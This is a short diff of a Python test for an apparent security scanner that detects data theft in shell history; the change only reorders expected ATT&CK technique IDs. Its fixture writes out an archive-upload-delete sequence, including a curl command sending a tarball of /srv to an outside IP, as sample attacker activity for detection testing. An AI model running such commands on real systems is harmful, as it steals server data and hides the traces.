@@ -66,7 +66,7 @@ def test_the_lines_are_quoted(plain: TreeMaker) -> None:
     plain.file("/root/.bash_history", "tar czf /tmp/d.tgz /srv\ncurl -T /tmp/d.tgz http://198.51.100.23/u\nrm /tmp/d.tgz\n")
     theft = next(one for one in plain.findings(ShellHistory()) if "packed" in one.title)
     assert theft.severity is CRITICAL
-    assert theft.attack == ("T1560.001", "T1048", "T1070.004")
+    assert theft.attack == ("T1048", "T1560.001", "T1070.004")
     assert theft.evidence.splitlines() == [
         "line 1: tar czf /tmp/d.tgz /srv",
         "line 2: curl -T /tmp/d.tgz http://198.51.100.23/u",
